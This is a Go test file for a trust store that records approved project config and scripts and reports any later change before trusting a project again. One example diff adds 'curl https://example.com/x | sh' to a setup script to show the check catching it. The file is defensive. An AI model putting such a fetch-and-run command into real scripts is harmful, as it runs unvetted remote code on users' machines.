package trust

import (
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

func project(files ...string) Project {
	p := Project{Root: "/srv/shop", Files: map[string][]byte{}, Keys: []string{"sandbox.provider"}}
	for i := 0; i < len(files); i += 2 {
		p.Files[files[i]] = []byte(files[i+1])
	}
	return p
}

const cfg, setup = ".talkops/config.toml", "scripts/setup.sh"

func TestOnlyTheApprovedContentIsTrusted(t *testing.T) {
	approved := project(cfg, "a = 1\n", setup, "echo \x1b[31m\r\n")
	for _, row := range []struct {
		name string
		now  Project
		want string // what is said of the change; empty: trusted
	}{
		{"the same", project(cfg, "a = 1\n", setup, "echo \x1b[31m\r\n"), ""},
		{"a changed setting", project(cfg, "a = 2\n", setup, "echo \x1b[31m\r\n"), cfg + " changed"},
		{"a changed script", project(cfg, "a = 1\n", setup, "echo 2\n"), setup + " changed"},
		{"only white space changed", project(cfg, "a = 1", setup, "echo \x1b[31m\r\n"), cfg + " changed"},
		{"one more file", project(cfg, "a = 1\n", setup, "echo \x1b[31m\r\n", "b.wasm", "x"), "b.wasm is new"},
		{"one file less", project(cfg, "a = 1\n"), setup + " is gone"},
		{"names swapped", project(setup, "a = 1\n", cfg, "echo \x1b[31m\r\n"), cfg + " changed"},
		{"another place", Project{Root: "/srv/copy", Files: approved.Files, Keys: approved.Keys}, "-"},
		{"nothing at all", Project{Root: approved.Root}, cfg + " is gone"},
		{"a setting that was not shown", Project{Root: approved.Root, Files: approved.Files, Keys: []string{"sandbox.provider", "hooks"}}, "hooks was not shown"},
		{"fewer settings than shown", Project{Root: approved.Root, Files: approved.Files}, ""},
	} {
		t.Run(row.name, func(t *testing.T) {
			s := Store{filepath.Join(t.TempDir(), "trust.toml")}
			if err := s.Add(approved, time.Now()); err != nil {
				t.Fatal(err)
			}
			ok, err := s.Trusts(row.now)
			if err != nil || ok != (row.want == "") {
				t.Fatalf("trusted = %v, %v; want %v", ok, err, row.want == "")
			}
			a, _ := s.Find(row.now.Root)
			if a == nil {
				if row.want != "-" {
					t.Fatal("no approval")
				}
				return
			}
			changes := a.Compare(row.now)
			if row.want != "" && (len(changes) == 0 || changes[0].String() != row.want) {
				t.Errorf("changes %v, want %q", changes, row.want)
			}
		})
	}
}

func TestAStoreIsPrivateAndWhole(t *testing.T) {
	dir := t.TempDir()
	s := Store{filepath.Join(dir, "home", "trust.toml")}
	var wg sync.WaitGroup
	for i := range 20 {
		wg.Go(func() {
			p := project(cfg, fmt.Sprintf("n = %d\n'''\n\\", i))
			p.Root = fmt.Sprintf("/srv/%d", i)
			if err := s.Add(p, time.Now()); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	list, err := s.List()
	if err != nil || len(list) != 20 {
		t.Fatalf("%d approvals, %v; want 20", len(list), err)
	}
	for _, a := range list {
		if f := a.Files[0]; sum([]byte(f.Text)) != f.Sum {
			t.Errorf("the text of %s is not what was approved: %q", a.Root, f.Text)
		}
	}
	if info, _ := os.Stat(s.Path); info.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600", info.Mode())
	}
	if ok, err := s.Remove("/srv/3"); !ok || err != nil {
		t.Errorf("Remove: %v, %v", ok, err)
	}
	if ok, err := s.Remove("/srv/3"); ok || err != nil {
		t.Errorf("Remove again: %v, %v", ok, err)
	}
	if list, _ := s.List(); len(list) != 19 {
		t.Errorf("%d approvals are left, want 19", len(list))
	}
}

func TestAnApprovalIsReplaced(t *testing.T) {
	s := Store{filepath.Join(t.TempDir(), "trust.toml")}
	for _, text := range []string{"a\n", "b\n"} {
		if err := s.Add(project(cfg, text), time.Now()); err != nil {
			t.Fatal(err)
		}
	}
	list, _ := s.List()
	if len(list) != 1 || list[0].Files[0].Text != "b\n" {
		t.Errorf("got %+v", list)
	}
}

func TestABrokenStoreTrustsNothingAndStays(t *testing.T) {
	for _, text := range []string{"[[project", "[[project]]\nroot = 1\n", "[[project]]\nroot = \"/srv/shop\"\nall = true\n"} {
		s := Store{filepath.Join(t.TempDir(), "trust.toml")}
		if err := os.WriteFile(s.Path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if ok, err := s.Trusts(project(cfg, "x")); ok || err == nil {
			t.Errorf("%q: trusted = %v, %v", text, ok, err)
		}
		if err := s.Add(project(cfg, "x"), time.Now()); err == nil {
			t.Errorf("%q: was written over", text)
		}
		if got, _ := os.ReadFile(s.Path); string(got) != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

func ExampleDiff() {
	fmt.Print(Diff("setup.sh", "#!/bin/sh\nset -e\nmake deps\n", "#!/bin/sh\nset -e\ncurl https://example.com/x | sh\nmake deps\n"))
	// Output:
	// --- setup.sh (approved)
	// +++ setup.sh (now)
	// @@ -1,3 +1,4 @@
	//  #!/bin/sh
	//  set -e
	// +curl https://example.com/x | sh
	//  make deps
}

// A diff says all: applied to the old text it gives the new one.
func TestDiffCanBeApplied(t *testing.T) {
	patch, err := exec.LookPath("patch")
	if err != nil {
		t.Skip("patch is not installed")
	}
	r := rand.New(rand.NewPCG(1, 2))
	text := func() string {
		var b strings.Builder
		for range r.IntN(40) {
			fmt.Fprintf(&b, "line %d\n", r.IntN(6))
		}
		if r.IntN(3) == 0 {
			b.WriteString("no end")
		}
		return b.String()
	}
	for range 60 {
		before, after := text(), text()
		d := Diff("f", before, after)
		if before == after {
			continue
		}
		name := filepath.Join(t.TempDir(), "f")
		if err := os.WriteFile(name, []byte(before), 0o600); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(patch, "-s", "--posix", name)
		cmd.Stdin = strings.NewReader(d)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("patch: %v\n%s\n%s", err, out, d)
		}
		got, _ := os.ReadFile(name)
		if string(got) != after {
			t.Fatalf("got %q\nwant %q\n%s", got, after, d)
		}
	}
}
